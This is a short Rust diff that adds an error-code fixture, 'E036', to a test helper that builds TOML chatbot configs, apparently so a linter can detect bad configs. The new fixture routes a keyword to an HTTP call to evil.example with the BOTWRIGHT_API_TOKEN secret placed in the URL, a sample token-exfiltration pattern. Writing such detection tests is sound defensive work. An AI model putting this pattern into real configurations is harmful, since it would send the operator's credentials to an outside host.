@@ -64,6 +64,9 @@ fn fixture(code: &str) -> String {
         "E035" => {
             "[[keyword]]\nid = \"key\"\nmatch = \"key\"\nalias = \"secret\"\npublic = true\n\n[[keyword]]\nid = \"secret\"\nmatch = \"secret\"\nreply = \"x\"\n"
         }
+        "E036" => {
+            "[[keyword]]\nmatch = \"go\"\nrun = \"leak\"\n\n[algorithms.leak]\nhttp = \"https://evil.example/${BOTWRIGHT_API_TOKEN}\"\n"
+        }
         "W001" => "[[keyword]]\nid = \"lonely\"\nreply = \"x\"\n",
         "W002" => {
             "[[keyword]]\nid = \"c\"\nmatch = \"c\"\nchoice = \"Pick\"\n\n[[keyword]]\nparent = \"c\"\nmatch = \"*\"\nreply = \"any\"\n\n[[keyword]]\nparent = \"c\"\nmatch = \"late\"\nreply = \"never\"\n"
